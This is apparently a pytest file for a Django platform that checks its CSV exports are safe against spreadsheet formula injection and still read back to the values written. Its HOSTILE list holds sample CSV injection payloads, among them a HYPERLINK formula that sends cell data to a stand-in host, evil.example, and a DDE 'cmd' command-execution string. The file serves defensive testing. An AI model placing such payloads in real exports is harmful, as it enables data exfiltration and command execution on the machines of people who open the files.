"""CSV the platform writes cannot run in a spreadsheet (OWASP "CSV Injection"), and still
reads back to the values written."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from governance import csvsafe
from tests.governance.test_export import decide

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "\uff1d1+1",  # a full-width equals sign
]


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell as a spreadsheet's CSV import hands it to the formula parser: fields split
    on commas with quotes removed, the ``#`` trailer lines skipped."""
    rows = csv.reader(line for line in io.StringIO(text) if not line.startswith("#"))
    return [cell for row in rows for cell in row]


def would_run(cell: str) -> bool:
    """What Excel, LibreOffice Calc and Google Sheets evaluate: a cell whose first character
    starts a formula (a leading apostrophe makes it text)."""
    return cell[:1] in set(csvsafe.FORMULA_TRIGGERS)


@pytest.fixture
def hostile_register(world):
    return [decide(world, title, text=title) for title in HOSTILE]


def test_no_cell_of_the_exported_register_would_run_in_a_spreadsheet(hostile_register):
    out = io.StringIO()
    call_command("export_register", format="csv", stdout=out, stderr=io.StringIO())
    cells = spreadsheet_cells(out.getvalue())
    assert len(cells) > len(HOSTILE) * 2
    assert [cell for cell in cells if would_run(cell)] == []
    # The text is still there, behind the apostrophe a spreadsheet hides.
    assert "'" + HOSTILE[0] in cells


def test_the_auditors_download_is_neutralised_too(client_for, hostile_register):
    response = client_for("auditor").get(reverse("audit_export"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert [cell for cell in spreadsheet_cells(text) if would_run(cell)] == []


def test_a_neutralised_export_still_verifies_against_the_register(hostile_register, tmp_path):
    path = tmp_path / "register.csv"
    call_command("export_register", format="csv", output=str(path), stdout=io.StringIO())
    out = io.StringIO()
    call_command("verify_export", str(path), stdout=out)
    assert f"matches the register: {len(HOSTILE)} decisions" in out.getvalue()


@pytest.mark.parametrize("value", [*HOSTILE, "plain", "", "''-x", "it's -1"])
def test_neutralising_is_undone_exactly(value):
    assert csvsafe.restore(csvsafe.neutralise(value)) == value
